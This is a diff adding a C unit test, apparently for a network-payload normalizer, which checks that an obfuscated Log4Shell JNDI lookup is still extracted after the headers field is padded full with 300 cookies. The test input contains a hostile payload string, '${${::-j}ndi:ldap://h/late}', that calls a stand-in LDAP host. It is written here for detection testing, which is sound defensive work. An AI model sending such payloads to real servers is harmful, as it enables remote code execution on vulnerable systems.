@@ -203,6 +203,17 @@ static void test_caps(void)
 		CHECK(z.len[f] < NORMALIZE_FIELD_MAX && strlen(z.field[f]) == z.len[f],
 		    "%s: %zu", normalize_names[f], z.len[f]);
 	CHECK(z.len[NORMALIZE_TARGET] >= NORMALIZE_FIELD_MAX - 3, "target cut at the cap");
+	/* A lookup after the headers field is full still reaches http_log4j. */
+	size_t o = 0;
+	o += (size_t)sprintf(big + o, "GET / HTTP/1.1\r\n");
+	for (int i = 0; i < 300; i++)
+		o += (size_t)sprintf(big + o, "Cookie: c%d=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n", i);
+	o += (size_t)sprintf(big + o, "X: ${${::-j}ndi:ldap://h/late}\r\n\r\n");
+	normalize_payload(&z, (uint8_t *)big, o);
+	CHECK(z.len[NORMALIZE_HEADERS] >= NORMALIZE_FIELD_MAX - 64, "headers full: %zu",
+	    z.len[NORMALIZE_HEADERS]);
+	CHECK(strcmp(z.field[NORMALIZE_LOG4J], "jndi:ldap://h/late") == 0, "late lookup: %s",
+	    z.field[NORMALIZE_LOG4J]);
 	/* Many requests: counted up to the cap. */
 	static const char req[] = "GET / HTTP/1.1\r\n\r\n";
 	size_t n = len / (sizeof(req) - 1);
